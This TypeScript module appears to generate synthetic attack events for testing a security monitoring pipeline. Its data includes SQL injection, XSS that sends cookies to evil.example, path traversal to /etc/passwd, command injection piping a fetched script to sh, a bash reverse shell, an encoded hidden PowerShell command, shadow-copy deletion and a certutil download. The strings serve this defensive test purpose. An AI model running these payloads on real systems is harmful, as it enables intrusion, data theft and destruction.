import type { Content, Kind } from "./workload-kind.ts";
import type { Random } from "./random.ts";

/** A value in a request's query, as an attacker's tool encodes it. */
function request(random: Random, value: string): Content {
  return {
    event_type: "http_request",
    payload: {
      method: "GET",
      url: `/${random.pick(["products", "search", "download", "view"])}?id=${random.int(1, 999)}&q=${encodeURIComponent(value)}`,
      status: random.pick([200, 403, 404, 500]),
      user_agent: random.pick([
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0",
        "python-requests/2.32.3",
        "curl/8.11.0",
      ]),
      headers: { host: "shop.example", accept: "*/*", referer: "https://shop.example/" },
    },
    metadata: { request: random.hex(16) },
  };
}

function web(values: readonly string[]): (random: Random) => Content {
  return (random) => request(random, random.pick(values));
}

const SQL = [
  "' OR 1=1 --",
  "1 UNION SELECT username, password FROM users--",
  "1'; DROP TABLE orders; --",
  "1 AND SLEEP(5)",
  "x' AND extractvalue(1, concat(0x7e, version()))--",
];
const SCRIPTS = [
  "<script>document.location='https://evil.example/?c='+document.cookie</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=fetch('https://evil.example')>",
];
const PATHS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/shadow",
  "php://filter/resource=config",
];
const COMMANDS = ["127.0.0.1;cat /etc/passwd", "x && curl http://evil.example/a.sh | sh", "$(whoami)", "|id"];

/** Most are failures for a few names: bursts, as each attacking source comes again and again. */
function guessing(random: Random): Content {
  return {
    event_type: "login_attempt",
    payload: {
      username: random.pick(["root", "admin", "oracle", "postgres", "test", "ubuntu", "backup", "git"]),
      success: random.chance(0.005),
      service: "sshd",
      method: "password",
      client: "libssh_0.9.6",
    },
    metadata: { host: `bastion-${random.int(1, 4)}.corp.example`, session: random.hex(16) },
  };
}

function running(random: Random): Content {
  return {
    event_type: "process_execution",
    payload: {
      command_line: random.pick([
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "vssadmin.exe delete shadows /all /quiet",
        "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe",
      ]),
      image: "C:\\Windows\\System32\\cmd.exe",
      user: "SYSTEM",
      parent: random.pick(["winword.exe", "w3wp.exe"]),
    },
    metadata: { host: `ws-${random.int(1, 300)}.corp.example`, pid: random.int(300, 64_000) },
  };
}

function encrypting(random: Random): Content {
  return {
    event_type: "file_activity",
    payload: {
      operation: random.pick(["encrypt", "rename"]),
      path: `/srv/share/finance/2026/report-${random.int(1, 9_999)}.xlsx.locked`,
      count: random.int(1, 40),
      process: "svch0st.exe",
    },
    metadata: { host: `files-${random.int(1, 4)}.corp.example`, share: "\\\\files-1\\finance" },
  };
}

function leaking(random: Random): Content {
  return {
    event_type: "network_flow",
    payload: {
      bytes_out: random.int(200_000_000, 4_000_000_000),
      bytes_in: random.int(1_000, 90_000),
      packets: random.int(100_000, 3_000_000),
      duration_ms: random.int(60_000, 600_000),
      application: "https",
    },
    metadata: { flow_id: random.hex(16), exporter: `core-${random.int(1, 3)}.net.example` },
  };
}

/** What another product has already classified. */
function classified(random: Random): Content {
  const [event_type, payload] = random.pick<readonly [string, Readonly<Record<string, unknown>>]>([
    ["brute_force", { attempts: random.int(5, 400), service: "sshd", username: "root" }],
    ["sql_injection", { query: `id=${random.int(1, 99)}' UNION SELECT card_number FROM payments--` }],
    ["ddos", { packets_per_sec: random.int(20_000, 900_000), vector: "udp-amplification" }],
    ["ransomware", { encrypted_files: random.int(10, 4_000), family: "lockbit" }],
    ["malware", { sha256: random.hex(64), family: "emotet" }],
    ["port_scan", { ports: Array.from({ length: 20 }, () => random.int(1, 65_535)) }],
    ["data_exfiltration", { bytes: random.int(50_000_000, 9_000_000_000), channel: "dns" }],
  ]);
  return {
    event_type,
    payload,
    metadata: {
      product: random.pick(["Acme EDR 12.4", "Example IDS 7.0.3"]),
      signature: `SIG-${random.int(10_000, 99_999)}`,
      note: "Reported by the sensor's own rules; see the console for the full record",
    },
  };
}

/** Attacks, web and login ones most often. */
export const ATTACKS: readonly Kind[] = [
  { weight: 18, make: web(SQL) },
  { weight: 12, make: web(SCRIPTS) },
  { weight: 10, make: web(PATHS) },
  { weight: 8, make: web(COMMANDS) },
  { weight: 28, make: guessing },
  { weight: 6, make: running },
  { weight: 4, make: encrypting },
  { weight: 4, make: leaking },
  { weight: 10, make: classified },
];
